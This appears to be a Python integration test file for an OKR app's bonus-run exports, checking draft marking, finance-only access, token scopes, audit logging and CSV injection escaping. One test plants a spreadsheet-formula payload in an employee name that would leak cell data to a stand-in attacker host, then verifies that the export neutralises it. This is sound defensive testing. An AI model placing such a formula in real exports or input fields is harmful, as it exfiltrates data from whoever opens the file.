"""Bonus exports on the hand-worked organisation (bonus_data.py): the payroll CSV, the workbook and the JSON;
the DRAFT marking, who may export (finance only; tokens need `export`), the audit event, CSV injection."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession
from tests.integration.bonus.bonus_data import Org, bonus_org
from tests.integration.conftest import login, logout

from okr.auth.schemas import CurrentUser
from okr.auth.services import create_token
from okr.bonus import services as bonus
from okr.db.audit import AuditEvent
from okr.db.bonus import BonusRun
from okr.lib.clock import set_clock
from okr.settings import Settings

Client = AsyncTestClient[Litestar]
PAYROLL = {
    "rita@example.com": "1080.00",
    "sue@example.com": "1620.00",
    "vic@example.com": "0.00",
    "mia@example.com": "1200.00",
    "max@example.com": "600.00",
}


@pytest.fixture(autouse=True)
def _restore_clock() -> Iterator[None]:
    yield
    set_clock(None)


async def computed(db: AsyncSession, settings: Settings, org: Org) -> BonusRun:
    """A draft run of Q3 computed by Fay, committed."""
    run = await bonus.create_run(db, settings=settings, period_key="2026-Q3", user=org.users["fay"])
    await bonus.compute_run(db, settings=settings, run_id=run.id)
    await db.commit()
    return run


async def locked(db: AsyncSession, settings: Settings, org: Org) -> BonusRun:
    """A run computed, submitted by Fay, approved by Fin and locked by Fay."""
    run = await computed(db, settings, org)
    await bonus.submit_run(db, run_id=run.id, user=org.users["fay"])
    await bonus.approve_run(db, run_id=run.id, user=org.users["fin"])
    await bonus.lock_run(db, run_id=run.id, user=org.users["fay"])
    await db.commit()
    return run


def payroll(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


async def token(db: AsyncSession, who: CurrentUser, *scopes: str) -> dict[str, str]:
    _, plaintext = await create_token(db, person_id=who.id, name="payroll", scopes=list(scopes))
    await db.commit()
    return {"Authorization": f"Bearer {plaintext}"}


async def exports_logged(db: AsyncSession) -> list[tuple[str, str | None, dict[str, Any] | None]]:
    rows = await db.execute(
        select(AuditEvent.actor, AuditEvent.entity_id, AuditEvent.after)
        .where(AuditEvent.action == "bonus_run.export")
        .order_by(AuditEvent.id)
    )
    return [(actor, entity_id, after) for actor, entity_id, after in rows]


async def test_the_payroll_csv_of_a_locked_run_has_the_hand_worked_amounts(
    client: Client, db: AsyncSession, settings: Settings
) -> None:
    org = await bonus_org(db, settings)
    run = await locked(db, settings, org)
    assert (await login(client, "fay@example.com")).status_code == 303
    got = await client.get(f"/bonus/runs/{run.id}/export.csv")
    assert got.status_code == 200, got.text
    assert got.headers["content-type"].startswith("text/csv")
    assert got.headers["content-disposition"] == f'attachment; filename="okr-bonus-2026-Q3-run-{run.id}.csv"'
    assert got.headers["cache-control"] == "no-store"
    rows = payroll(got.content)
    assert {r["email"]: r["amount"] for r in rows} == PAYROLL
    assert [r["name"] for r in rows] == [
        "Rita Rep",
        "Sue Seller",
        "Vic Leader",
        "Max Marketer",
        "Mia Marketer",
    ]
    assert {(r["status"], r["period"], r["run_id"], r["currency"], r["inputs_checksum"]) for r in rows} == {
        ("FINAL", "2026-Q3", str(run.id), "USD", run.inputs_checksum)
    }
    rita = next(r for r in rows if r["email"] == "rita@example.com")
    assert (rita["employee_id"], rita["team"]) == ("E-RITA", "sales")
    assert f",1080.00,USD,{run.inputs_checksum}\r\n".encode() in got.content

    assert await exports_logged(db) == [
        (
            "fay@example.com",
            str(run.id),
            {
                "format": "csv",
                "run_id": run.id,
                "state": "locked",
                "status": "FINAL",
                "inputs_checksum": run.inputs_checksum,
                "people": 5,
                "paid": 450_000,
            },
        )
    ]


async def test_a_draft_run_is_marked_draft_in_every_format(
    client: Client, db: AsyncSession, settings: Settings
) -> None:
    org = await bonus_org(db, settings)
    run = await computed(db, settings, org)
    await login(client, "fay@example.com")

    got = await client.get(f"/bonus/runs/{run.id}/export.csv")
    assert got.status_code == 200, got.text
    assert f'filename="okr-bonus-2026-Q3-run-{run.id}-DRAFT.csv"' in got.headers["content-disposition"]
    assert {r["status"] for r in payroll(got.content)} == {"DRAFT"}
    assert {r["email"]: r["amount"] for r in payroll(got.content)} == PAYROLL

    book = await client.get(f"/bonus/runs/{run.id}/export.xlsx")
    assert book.status_code == 200, book.text
    assert book.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert f'filename="okr-bonus-2026-Q3-run-{run.id}-DRAFT.xlsx"' in book.headers["content-disposition"]
    wb = load_workbook(io.BytesIO(book.content))
    assert wb.sheetnames == ["Summary", "People", "Deal trace", "Adjustments"]
    for ws in wb.worksheets:
        assert str(ws["A1"].value).startswith(f"DRAFT: run {run.id} (2026-Q3) is draft, not locked")
    summary = {r[0].value: r[1].value for r in wb["Summary"].iter_rows(min_row=3, max_col=2) if r[0].value}
    assert (summary["Run id"], summary["Status"], summary["State"]) == (run.id, "DRAFT", "draft")
    assert summary["Inputs checksum (sha256)"] == run.inputs_checksum
    trace = wb["Deal trace"]
    sue = [
        (row[2].value, row[7].value, row[7].data_type)
        for row in trace.iter_rows(min_row=3)
        if row[1].value == "sue@example.com"
    ]
    # Numbers read back by openpyxl are floats; 720 and 900 are exact in any binary float.
    assert sue == [("W1", 720, "n"), ("W2", 900, "n")]

    api = await client.get(f"/api/v1/bonus/runs/{run.id}/export")
    assert api.status_code == 200, api.text
    doc = api.json()
    assert (doc["draft"], doc["status"], doc["run_id"], doc["inputs_checksum"]) == (
        True,
        "DRAFT",
        run.id,
        run.inputs_checksum,
    )
    assert {p["email"]: p["payable"]["major"] for p in doc["people"]} == PAYROLL
    assert {p["email"]: p["payable"]["minor"] for p in doc["people"]}["rita@example.com"] == 108_000
    assert doc["pool"]["pool"] == {"minor": 450_000, "major": "4500.00"}

    assert [(after or {}).get("format") for _, _, after in await exports_logged(db)] == [
        "csv",
        "xlsx",
        "json",
    ]


async def test_only_finance_may_export(client: Client, db: AsyncSession, settings: Settings) -> None:
    org = await bonus_org(db, settings)
    run = await computed(db, settings, org)
    for email in ("ada@example.com", "vic@example.com", "rita@example.com"):
        await login(client, email)
        for url in (
            f"/bonus/runs/{run.id}/export.csv",
            f"/bonus/runs/{run.id}/export.xlsx",
            f"/api/v1/bonus/runs/{run.id}/export",
            "/bonus/runs/999999/export.csv",  # a run that does not exist: the same 403
        ):
            got = await client.get(url)
            assert got.status_code == 403, (email, url, got.text)
            assert "1620.00" not in got.text and "Sue Seller" not in got.text
        await logout(client)
    assert await exports_logged(db) == []

    await login(client, "fay@example.com")
    assert (await client.get("/bonus/runs/999999/export.csv")).status_code == 404
    missing = await client.get("/api/v1/bonus/runs/999999/export")
    assert missing.status_code == 404
    assert missing.headers["content-type"].startswith("application/problem+json")


async def test_an_api_token_needs_the_export_scope(
    client: Client, db: AsyncSession, settings: Settings
) -> None:
    org = await bonus_org(db, settings)
    run = await locked(db, settings, org)
    url = f"/api/v1/bonus/runs/{run.id}/export"

    refused = await client.get(url, headers=await token(db, org.users["fay"], "read", "import"))
    assert refused.status_code == 403
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert "export" in refused.json()["detail"]
    # An admin's token with the scope is still an admin's: DESIGN 8 lets admins submit runs only.
    assert (await client.get(url, headers=await token(db, org.users["ada"], "export"))).status_code == 403
    assert (await client.get(url)).status_code == 401

    got = await client.get(url, headers=await token(db, org.users["fay"], "export"))
    assert got.status_code == 200, got.text
    doc = got.json()
    assert (doc["draft"], doc["status"], doc["state"]) == (False, "FINAL", "locked")
    assert {p["email"]: p["payable"]["major"] for p in doc["people"]} == PAYROLL
    assert doc["currency"] == "USD" and doc["decimals"] == 2
    assert [(actor, after and after["format"]) for actor, _, after in await exports_logged(db)] == [
        ("fay@example.com (token payroll)", "json")
    ]

    schema = (await client.get("/api/docs/openapi.json")).json()
    operation = schema["paths"]["/api/v1/bonus/runs/{run_id}/export"]["get"]
    assert {"200", "403", "404", "409"} <= set(operation["responses"])


async def test_a_name_that_is_a_formula_comes_out_prefixed(
    client: Client, db: AsyncSession, settings: Settings
) -> None:
    org = await bonus_org(db, settings)
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
    org.people["max"].name = evil
    await db.commit()
    run = await computed(db, settings, org)
    await login(client, "fay@example.com")

    rows = payroll((await client.get(f"/bonus/runs/{run.id}/export.csv")).content)
    assert next(r["name"] for r in rows if r["email"] == "max@example.com") == "'" + evil
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())

    wb = load_workbook(io.BytesIO((await client.get(f"/bonus/runs/{run.id}/export.xlsx")).content))
    names = [c for row in wb["People"].iter_rows(min_row=3, max_col=2) for c in row[1:]]
    cell = next(c for c in names if str(c.value).endswith('"Click me")'))
    assert (cell.value, cell.data_type) == ("'" + evil, "s")

    # The JSON is data for programs: the name as it is.
    doc = (await client.get(f"/api/v1/bonus/runs/{run.id}/export")).json()
    assert next(p["name"] for p in doc["people"] if p["email"] == "max@example.com") == evil


async def test_a_run_not_computed_yet_cannot_be_exported(
    client: Client, db: AsyncSession, settings: Settings
) -> None:
    org = await bonus_org(db, settings)
    run = await bonus.create_run(db, settings=settings, period_key="2026-Q3", user=org.users["fay"])
    await db.commit()
    await login(client, "fay@example.com")
    assert (await client.get(f"/bonus/runs/{run.id}/export.csv")).status_code == 409
    refused = await client.get(f"/api/v1/bonus/runs/{run.id}/export")
    assert refused.status_code == 409
    assert "has not finished computing" in refused.json()["detail"]
    assert await exports_logged(db) == []
